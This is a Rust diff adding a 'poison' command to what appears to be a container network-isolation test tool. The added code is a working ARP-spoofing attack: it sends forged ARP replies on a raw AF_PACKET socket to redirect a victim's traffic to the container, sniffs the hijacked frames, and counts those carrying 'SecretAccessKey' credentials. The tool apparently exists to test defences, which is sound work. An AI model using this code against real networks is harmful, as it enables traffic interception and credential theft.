@@ -19,6 +19,11 @@
 //!   as a whole Ethernet frame to the default gateway's MAC on an `AF_PACKET` socket (NET_RAW),
 //!   where no socket hook sees them; then, for 3 s, count the SYN-ACKs that come back from ADDR.
 //!   Prints `sent=N` and `synacks=K`.
+//! - `poison ADDR VICTIM SECS`: for SECS seconds, tell the host (the default gateway) that
+//!   VICTIM's IPv4 address is at this container's MAC (unsolicited ARP replies every 50 ms, on an
+//!   `AF_PACKET` socket), and sniff what then arrives for VICTIM. Prints `hijacked=N` (frames for
+//!   VICTIM received here) and `stolen=K` (those carrying a credentials document). ADDR is
+//!   unused (the command line's shape).
 use std::{
     collections::BTreeMap,
     io::{Read as _, Write as _},
@@ -225,6 +230,109 @@ fn gateway_mac(gw: std::net::Ipv4Addr) -> [u8; 6] {
         std::thread::sleep(Duration::from_millis(20));
     }
     panic!("the gateway {gw} was not resolved");
+}
+
+/// An `AF_PACKET` socket bound to eth0 (its index), receiving with a 50 ms timeout.
+fn packet_socket() -> (std::os::fd::OwnedFd, i32) {
+    let index: i32 = std::fs::read_to_string("/sys/class/net/eth0/ifindex")
+        .expect("eth0")
+        .trim()
+        .parse()
+        .expect("an index");
+    // SAFETY: plain socket(2); the descriptor is owned below.
+    let fd = unsafe {
+        libc::socket(
+            libc::AF_PACKET,
+            libc::SOCK_RAW,
+            (libc::ETH_P_ALL as u16).to_be() as i32,
+        )
+    };
+    assert!(fd >= 0, "AF_PACKET: {}", std::io::Error::last_os_error());
+    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
+    let timeout = libc::timeval {
+        tv_sec: 0,
+        tv_usec: 50_000,
+    };
+    // SAFETY: a timeval of the size given.
+    unsafe {
+        libc::setsockopt(
+            fd,
+            libc::SOL_SOCKET,
+            libc::SO_RCVTIMEO,
+            (&raw const timeout).cast(),
+            std::mem::size_of::<libc::timeval>() as u32,
+        );
+    }
+    (socket, index)
+}
+
+/// Write one whole frame to `to_mac` on eth0.
+fn send_frame(socket: &std::os::fd::OwnedFd, index: i32, to_mac: [u8; 6], frame: &[u8]) -> bool {
+    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+    to.sll_family = libc::AF_PACKET as u16;
+    to.sll_ifindex = index;
+    to.sll_halen = 6;
+    to.sll_addr[..6].copy_from_slice(&to_mac);
+    // SAFETY: a valid buffer and address of the sizes given.
+    let rc = unsafe {
+        libc::sendto(
+            std::os::fd::AsRawFd::as_raw_fd(socket),
+            frame.as_ptr().cast(),
+            frame.len(),
+            0,
+            (&raw const to).cast(),
+            std::mem::size_of::<libc::sockaddr_ll>() as u32,
+        )
+    };
+    rc > 0
+}
+
+/// See the `poison` command: (frames for `victim` received, those with credentials in them).
+fn poison(victim: std::net::Ipv4Addr, run: Duration) -> (usize, usize) {
+    let gw = gateway();
+    let gw_mac = gateway_mac(gw);
+    let own_mac = mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("eth0"));
+    let (socket, index) = packet_socket();
+    // An ARP reply: "victim is at own_mac", to the gateway.
+    let mut reply = Vec::with_capacity(42);
+    reply.extend_from_slice(&gw_mac);
+    reply.extend_from_slice(&own_mac);
+    reply.extend_from_slice(&0x0806u16.to_be_bytes());
+    reply.extend_from_slice(&[0, 1, 0x08, 0, 6, 4, 0, 2]);
+    reply.extend_from_slice(&own_mac);
+    reply.extend_from_slice(&victim.octets());
+    reply.extend_from_slice(&gw_mac);
+    reply.extend_from_slice(&gw.octets());
+    let deadline = std::time::Instant::now() + run;
+    let mut next_reply = std::time::Instant::now();
+    let (mut hijacked, mut stolen) = (0, 0);
+    let mut buf = [0u8; 65536];
+    while std::time::Instant::now() < deadline {
+        if std::time::Instant::now() >= next_reply {
+            send_frame(&socket, index, gw_mac, &reply);
+            next_reply += Duration::from_millis(50);
+        }
+        // SAFETY: a buffer of the size given.
+        let got = unsafe {
+            libc::recv(
+                std::os::fd::AsRawFd::as_raw_fd(&socket),
+                buf.as_mut_ptr().cast(),
+                buf.len(),
+                0,
+            )
+        };
+        if got < 34 {
+            continue;
+        }
+        let frame = &buf[..got as usize];
+        if frame[12..14] == [0x08, 0x00] && frame[30..34] == victim.octets() {
+            hijacked += 1;
+            if frame.windows(15).any(|w| w == b"SecretAccessKey") {
+                stolen += 1;
+            }
+        }
+    }
+    (hijacked, stolen)
 }
 
 /// See the `frames` command: (frames sent, SYN-ACKs from `dst` seen within 3 s).
@@ -455,6 +563,13 @@ fn main() {
             let (sent, synacks) = frames(dst, n);
             println!("sent={sent}");
             println!("synacks={synacks}");
+        }
+        "poison" => {
+            let victim: std::net::Ipv4Addr = args[2].parse().expect("VICTIM");
+            let secs: u64 = args[3].parse().expect("SECS");
+            let (hijacked, stolen) = poison(victim, Duration::from_secs(secs));
+            println!("hijacked={hijacked}");
+            println!("stolen={stolen}");
         }
         other => panic!("unknown command {other}"),
     }
